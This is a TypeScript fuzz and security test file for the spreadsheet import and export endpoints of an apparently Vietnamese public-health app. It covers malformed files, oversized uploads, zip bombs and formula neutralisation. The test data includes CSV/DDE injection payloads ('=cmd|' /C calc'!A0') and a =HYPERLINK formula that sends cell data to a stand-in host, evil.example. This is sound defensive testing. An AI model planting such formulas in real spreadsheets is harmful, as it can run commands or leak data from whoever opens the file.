/**
 * Issue 10, part 2 — every import through HTTP (app.inject) with generated malformed files, dry
 * runs and commits mixed: never a 5xx, each refusal a JSON error in Vietnamese and English, and the
 * row counts of the tables the import writes unchanged whenever the file is refused, a dry run, or
 * (all-or-nothing imports) has any issue. Also: a 100 MB upload is answered 413 without being read
 * whole, zip bombs and damaged archives are refused as BAD_FILE, and a formula typed into a name
 * comes back out of every export as text.
 * The file stage alone (no database, many more inputs) is import-files.test.ts.
 */
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { taxCodeFrom } from '../../modules/enterprises/enterprises.domain.ts';
import { type App, XLSX_MIME } from '../../server/app.ts';
import { buildTestApp, loginAs, seedTestUsers } from '../fixtures.ts';
import { createTestDb, type TestDb } from '../test-db.ts';
import { collectingStrayErrors, expectCleanRefusal, expectNoCrash, fuzzParams, rowCounts } from './harness.ts';
import { SHAPES } from './import-shapes.ts';
import { csvFor, damage, workbookBytes, workbookFor, zipBomb } from './xlsx-gen.ts';

/** Inputs per import through HTTP and the database (the file stage adds its own, see import-files). */
export const HTTP_RUNS = 150;

let t: TestDb;
let app: App;
let admin: string;
let enterpriseId: number;
let houseId: number;

interface Target {
  url: () => string;
  /** The tables it writes (lab: results live in `sample`, counted when resulted). */
  tables: string[];
  /** Query parameters to pick from (dry run / commit / mode). */
  queries: string[];
  allOrNothing: (query: string) => boolean;
  contentType?: string;
}

const PEOPLE_TABLES = ['person', 'contact_group', 'group_membership'];
const TARGETS: Record<keyof typeof SHAPES, Target> = {
  people: { url: () => '/api/people/import', tables: PEOPLE_TABLES, queries: ['?dryRun=true', '?dryRun=false', '?dryRun=false&duplicates=skip'], allOrNothing: (q) => !q.includes('skip') },
  cases: { url: () => '/api/cases/import', tables: ['covid_case', 'case_status_event', ...PEOPLE_TABLES], queries: ['?dryRun=true', '?dryRun=false'], allOrNothing: () => true },
  workers: { url: () => `/api/enterprises/${enterpriseId}/workers/import`, tables: ['worker', 'enterprise_workshop', 'enterprise_shift', ...PEOPLE_TABLES], queries: ['?dryRun=true', '?dryRun=false', '?dryRun=false&changeDate=2021-06-01'], allOrNothing: () => true },
  lab: { url: () => '/api/testing/lab-results', tables: ['sample', 'covid_case', 'retest_task', 'quarantine_order'], queries: ['?mode=all_or_nothing', '?mode=per_row'], allOrNothing: (q) => q.includes('all_or_nothing') },
  quarantine: { url: () => '/api/quarantine/orders/import', tables: ['quarantine_order', 'quarantine_order_event'], queries: ['?dryRun=true', '?dryRun=false'], allOrNothing: () => true },
  doses: { url: () => '/api/vaccination/doses/import', tables: ['vaccine_dose', ...PEOPLE_TABLES], queries: ['?dryRun=true', '?dryRun=false'], allOrNothing: () => true },
  arrivals: { url: () => '/api/arrivals/import', tables: ['arrival', 'quarantine_order', 'team_task', ...PEOPLE_TABLES], queries: ['?dryRun=true', '?dryRun=false'], allOrNothing: () => true },
  tenants: { url: () => `/api/boarding-houses/${houseId}/tenants/import`, tables: ['boarding_house_tenancy', ...PEOPLE_TABLES], queries: ['?dryRun=true', '?dryRun=false'], allOrNothing: () => true },
};

const upload = (url: string, body: Buffer | Readable, contentType = XLSX_MIME, headers: Record<string, string> = {}) =>
  app.inject({ method: 'POST', url, headers: { cookie: admin, 'content-type': contentType, ...headers }, payload: body });

beforeAll(async () => {
  t = await createTestDb();
  await seedTestUsers(t.db);
  app = await buildTestApp(t.db);
  admin = await loginAs(app, 't_admin');
  const ent = await app.inject({ method: 'POST', url: '/api/enterprises', headers: { cookie: admin }, payload: { name: 'Công ty TNHH Thử Lỗi', taxCode: taxCodeFrom('240900001'), communeCode: '07801' } });
  expect(ent.statusCode, ent.body).toBe(201);
  enterpriseId = ent.json().id;
  const house = await app.inject({ method: 'POST', url: '/api/boarding-houses', headers: { cookie: admin }, payload: { ownerName: 'Nguyễn Thị Chủ', communeCode: '07801', rooms: [{ label: 'P101', capacity: 100 }, { label: 'P102', capacity: 100 }] } });
  expect(house.statusCode, house.body).toBe(201);
  houseId = house.json().id;
});
afterAll(async () => {
  await app?.close();
  await t?.destroy();
});

/** Sends one file and checks the answer and the row counts. */
async function sendAndCheck(name: keyof typeof SHAPES, body: Buffer, query: string, contentType?: string) {
  const target = TARGETS[name];
  const before = await rowCounts(t.db, target.tables);
  const res = await upload(`${target.url()}${query}`, body, contentType);
  const what = `${name} ${query}`;
  expectNoCrash(res, what);
  const after = await rowCounts(t.db, target.tables);
  if (res.statusCode !== 200) {
    expect(after, `${what}: refused (${res.statusCode}) but rows changed`).toEqual(before);
    return 'refused' as const;
  }
  const reply = res.json() as { dryRun?: boolean; issues?: Array<{ message?: { vi?: string; en?: string } }>; status?: string };
  for (const i of reply.issues ?? []) expect(i.message?.vi && i.message?.en, `${what}: issue without vi/en: ${JSON.stringify(i).slice(0, 200)}`).toBeTruthy();
  const refusedWhole = query.includes('dryRun=true') || (target.allOrNothing(query) && ((reply.issues?.length ?? 0) > 0 || reply.status === 'rejected'));
  if (refusedWhole) expect(after, `${what}: ${JSON.stringify(reply).slice(0, 300)}`).toEqual(before);
  return refusedWhole ? 'refused' as const : 'accepted' as const;
}

describe('imports through HTTP under generated malformed files', () => {
  for (const name of Object.keys(TARGETS) as Array<keyof typeof SHAPES>) {
    it(`${name}: ${HTTP_RUNS} generated and damaged files, no 5xx, no partial write`, async () => {
      const target = TARGETS[name];
      const seen = { refused: 0, accepted: 0 };
      const file = name === 'lab'
        ? fc.oneof(workbookFor(SHAPES[name], 4).map((w) => ({ body: workbookBytes(w), type: XLSX_MIME })), csvFor(SHAPES.lab).map((body) => ({ body, type: 'text/csv' })))
        : fc.oneof({ weight: 4, arbitrary: workbookFor(SHAPES[name], 4).map((w) => workbookBytes(w)) }, { weight: 1, arbitrary: fc.tuple(workbookFor(SHAPES[name], 2), damage).map(([w, hurt]) => hurt(workbookBytes(w))) })
          .map((body) => ({ body, type: XLSX_MIME }));
      const { stray } = await collectingStrayErrors(() => fc.assert(fc.asyncProperty(file, fc.constantFrom(...target.queries), async (f, query) => {
        seen[await sendAndCheck(name, f.body, query, f.type)] += 1;
      }), fuzzParams(HTTP_RUNS)));
      console.info(`fuzz ${name} http stage: ${JSON.stringify(seen)}`);
      expect(stray).toEqual([]);
      expect(seen.refused + seen.accepted).toBe(HTTP_RUNS);
    });
  }
});

/** Rows every check accepts, so that a commit really writes; one hostile row must then stop them all. */
const FAMILY = ['Nguyễn', 'Trần', 'Lê', 'Phạm', 'Hoàng', 'Vũ', 'Đặng', 'Bùi'];
const GIVEN = ['Văn An', 'Thị Bình', 'Văn Cường', 'Thị Dung', 'Minh Đức', 'Thu Hà', 'Quang Huy', 'Ngọc Lan'];
const goodPerson = fc.record({
  fullName: fc.tuple(fc.constantFrom(...FAMILY), fc.constantFrom(...GIVEN)).map(([f, g]) => `${f} ${g}`),
  sex: fc.constantFrom('Nam', 'Nữ'),
  dateOfBirth: fc.tuple(fc.integer({ min: 1, max: 28 }), fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1960, max: 2000 }))
    .map(([d, m, y]) => `${String(d).padStart(2, '0')}/${String(m).padStart(2, '0')}/${y}`),
  phone: fc.integer({ min: 10_000_000, max: 99_999_999 }).map((n) => `09${n}`),
});
const GOOD_ROWS = {
  people: { header: ['Họ và tên', 'Giới tính', 'Ngày sinh', 'Số điện thoại', 'Mã xã/phường'], row: goodPerson.map((p) => [p.fullName, p.sex, p.dateOfBirth, p.phone, '07801']) },
  workers: {
    header: ['Mã nhân viên', 'Họ và tên', 'Giới tính', 'Ngày sinh', 'Số điện thoại', 'Mã xã/phường', 'Phương tiện đi làm', 'Ngày vào làm'],
    row: fc.tuple(goodPerson, fc.integer({ min: 1, max: 99_999_999 })).map(([p, n]) => [`NV${n}`, p.fullName, p.sex, p.dateOfBirth, p.phone, '07801', 'Xe máy', '01/03/2021']),
  },
  tenants: {
    header: ['Họ và tên', 'Giới tính', 'Ngày sinh', 'Số điện thoại', 'Phòng', 'Từ ngày'],
    row: fc.tuple(goodPerson, fc.constantFrom('P101', 'P102')).map(([p, room]) => [p.fullName, p.sex, p.dateOfBirth, p.phone, room, '01/03/2021']),
  },
} as const;
export const ALL_OR_NOTHING_RUNS = 25;

describe('all or nothing: good rows and one hostile row write nothing; the good rows alone are written', () => {
  for (const name of Object.keys(GOOD_ROWS) as Array<keyof typeof GOOD_ROWS>) {
    it(`${name}: ${ALL_OR_NOTHING_RUNS} files`, async () => {
      const { header, row } = GOOD_ROWS[name];
      const hostile = fc.tuple(fc.nat({ max: header.length - 1 }), fc.constantFrom('=cmd|\' /C calc\'!A0', '31/02/2021', '99999', '', 'x'.repeat(300), '\u202E', '-1'));
      let written = 0;
      let files = 0;
      await fc.assert(fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 5 }), fc.nat({ max: 5 }), hostile, async (generated, at, [col, bad]) => {
        files += 1;
        // Each file's people are new: fast-check favours small values, so the same name, date of
        // birth and phone come back across files, and a person written by an earlier file makes
        // the later one a possible duplicate, refused whole (the good files then seldom commit).
        // A phone unique to the file and row prevents it; likewise an employee code generated
        // again would update the earlier file's worker in place, a write no row count shows.
        const phone = header.indexOf('Số điện thoại');
        const rows = generated.map((r, i) => {
          const unique: string[] = [...r];
          unique[phone] = `09${98_000_000 + files * 10 + i}`;
          if (name === 'workers') unique[0] = `${r[0]}-${files}`;
          return unique;
        });
        const sheet = (list: ReadonlyArray<ReadonlyArray<string>>) => {
          const wb = new ExcelJS.Workbook();
          const ws = wb.addWorksheet('Danh sách');
          ws.addRow([...header]);
          for (const r of list) ws.addRow([...r]);
          return wb.xlsx.writeBuffer().then((b) => Buffer.from(b));
        };
        const badRow = [...rows[at % rows.length]!];
        badRow[col] = bad;
        const withBad = [...rows.slice(0, at % (rows.length + 1)), badRow, ...rows.slice(at % (rows.length + 1))];
        const before = await rowCounts(t.db, TARGETS[name].tables);
        const refused = await upload(`${TARGETS[name].url()}?dryRun=false`, await sheet(withBad));
        expectNoCrash(refused, `${name} with a hostile row`);
        const afterRefusal = await rowCounts(t.db, TARGETS[name].tables);
        if (refused.statusCode === 200 && (refused.json().issues?.length ?? 0) === 0) {
          // The "hostile" value happened to be acceptable in that column (an empty optional cell): then it was all written.
          expect(afterRefusal.person).toBeGreaterThanOrEqual(before.person!);
          return;
        }
        expect(afterRefusal, `${name}: ${refused.body.slice(0, 300)}`).toEqual(before);
        const ok = await upload(`${TARGETS[name].url()}?dryRun=false`, await sheet(rows));
        expectNoCrash(ok, `${name} good rows`);
        if (ok.statusCode === 200 && (ok.json().issues?.length ?? 0) === 0) {
          written += 1;
          const after = await rowCounts(t.db, TARGETS[name].tables);
          expect(after.person! - before.person!, `${name}: ${ok.body.slice(0, 300)}`).toBeLessThanOrEqual(rows.length);
          expect(after, ok.body.slice(0, 300)).not.toEqual(before);
        } else {
          // Good rows refused whole (a clash the rows above do not rule out) write nothing.
          expect(await rowCounts(t.db, TARGETS[name].tables)).toEqual(before);
        }
      }), fuzzParams(ALL_OR_NOTHING_RUNS));
      console.info(`fuzz ${name} all-or-nothing: ${written} good files written`);
      // The good files do commit: the refusals above are not a generator that never writes.
      expect(written).toBeGreaterThan(ALL_OR_NOTHING_RUNS / 2);
    });
  }
});

describe('oversize uploads and zip bombs', () => {
  it('a 100 MB upload is answered 413 without the server reading it all', async () => {
    const total = 100 * 1024 * 1024;
    const chunk = Buffer.alloc(1024 * 1024, 0x41);
    let sent = 0;
    const body = new Readable({
      read() {
        if (sent >= total) { this.push(null); return; }
        sent += chunk.length;
        this.push(chunk);
      },
    });
    const res = await upload(TARGETS.people.url(), body, XLSX_MIME, { 'content-length': String(total) });
    expect(res.statusCode).toBe(413);
    expect(expectCleanRefusal(res, 'oversize').code).toBe('PAYLOAD_TOO_LARGE');
    // Refused on its declared length: at most a few chunks were pulled, not 100 MB.
    expect(sent).toBeLessThan(total / 2);
  });

  it('an upload without a length is cut at the limit, then 413', async () => {
    let sent = 0;
    const body = new Readable({
      read() {
        if (sent >= 60 * 1024 * 1024) { this.push(null); return; }
        sent += 1024 * 1024;
        this.push(Buffer.alloc(1024 * 1024, 0x42));
      },
    });
    const res = await upload('/api/testing/lab-results', body, 'text/csv', { 'transfer-encoding': 'chunked' });
    expect(res.statusCode).toBe(413);
    expectCleanRefusal(res, 'chunked oversize');
  });

  // One bomb's header lies about its size (so it is inflated up to the ceiling before the refusal), the others' do not.
  for (const [kind, sheetFirst, lie] of [['rows', false, false], ['rows', true, true], ['one-cell', true, false], ['shared-strings', false, false]] as const) {
    it(`a zip bomb (${kind}${sheetFirst ? ', sheet before shared strings' : ''}${lie ? ', lying size' : ''}) is refused without inflating it`, async () => {
      const bomb = zipBomb(kind, 1024, { sheetFirst, lieAboutSize: lie }); // 1 GB of XML in about 1 MB
      expect(bomb.length).toBeLessThan(8 * 1024 * 1024);
      const rssBefore = process.memoryUsage().rss;
      for (const name of ['people', 'workers', 'lab', 'tenants'] as const) {
        const before = await rowCounts(t.db, TARGETS[name].tables);
        const res = await upload(`${TARGETS[name].url()}${TARGETS[name].queries[1]}`, bomb);
        const { code } = expectCleanRefusal(res, `${name} bomb`);
        expect(code).toBe('BAD_FILE');
        expect(res.json().error.message.en).toMatch(/inflates to more than|cannot read it as an Excel/);
        expect(await rowCounts(t.db, TARGETS[name].tables)).toEqual(before);
      }
      // Bounded: far less than the gigabyte the bomb unpacks to.
      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(400 * 1024 * 1024);
    });
  }
});

describe('exports neutralise spreadsheet formulas', () => {
  const NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")';
  const cellsOf = async (xlsx: Buffer) => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const out: Array<{ value: ExcelJS.CellValue; type: ExcelJS.ValueType }> = [];
    wb.eachSheet((ws) => ws.eachRow((r) => r.eachCell((c) => { out.push({ value: c.value, type: c.type }); })));
    return out;
  };
  const expectNoFormula = async (xlsx: Buffer, mustContain: string[]) => {
    const cells = await cellsOf(xlsx);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const texts = cells.map((c) => (typeof c.value === 'string' ? c.value : ''));
    for (const s of mustContain) expect(texts).toContain(`'${s}`);
    for (const s of texts) expect(s, s).not.toMatch(/^[=+@\t\r]|^-(?![\d.,]*$)/);
  };

  it('an offender name entered as =HYPERLINK(...) is text in the violations export', async () => {
    const body = { kind: 'no_mask', occurredOn: '2021-07-21', communeCode: '07801', placeDetail: '@SUM(1+1)*cmd|\' /C calc\'!A0', offenderName: NAME, decisionNo: '-2+3+cmd|\' /C calc\'!A0', fineVnd: 2_000_000, status: 'decided' };
    const res = await app.inject({ method: 'POST', url: '/api/community/violations', headers: { cookie: admin }, payload: body });
    expect(res.statusCode, res.body).toBe(201);
    const exp = await app.inject({ method: 'GET', url: '/api/community/violations/export.xlsx', headers: { cookie: admin } });
    expect(exp.statusCode, exp.body.slice(0, 300)).toBe(200);
    await expectNoFormula(exp.rawPayload, [NAME, body.placeDetail, body.decisionNo]);
  });

  it('imported addresses =HYPERLINK(...) come out of the people and worker exports as text', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Danh sách');
    ws.addRow(['Mã nhân viên', 'Họ và tên', 'Giới tính', 'Mã xã/phường', 'Địa chỉ (thôn, đường)', 'Địa chỉ nơi ở hiện tại', 'Phương tiện đi làm', 'Ngày vào làm']);
    ws.addRow(['NV9001', 'Nguyễn Văn Công', 'Nam', '07801', NAME, '+1+cmd|\' /C calc\'!A0', 'Xe máy', '01/03/2021']);
    ws.addRow(['NV9002', 'Trần Thị Thợ', 'Nữ', '07801', '\t=1+1', NAME, 'Xe máy', '01/03/2021']);
    const res = await upload(`/api/enterprises/${enterpriseId}/workers/import?dryRun=false`, Buffer.from(await wb.xlsx.writeBuffer()));
    expect(res.statusCode, res.body).toBe(200);
    const workers = await app.inject({ method: 'GET', url: `/api/enterprises/${enterpriseId}/workers/export.xlsx`, headers: { cookie: admin } });
    expect(workers.statusCode, workers.body.slice(0, 300)).toBe(200);
    await expectNoFormula(workers.rawPayload, [NAME, '+1+cmd|\' /C calc\'!A0']);
    const people = await app.inject({ method: 'GET', url: '/api/people/export.xlsx', headers: { cookie: admin } });
    expect(people.statusCode, people.body.slice(0, 300)).toBe(200);
    await expectNoFormula(people.rawPayload, [NAME]);
  });
});
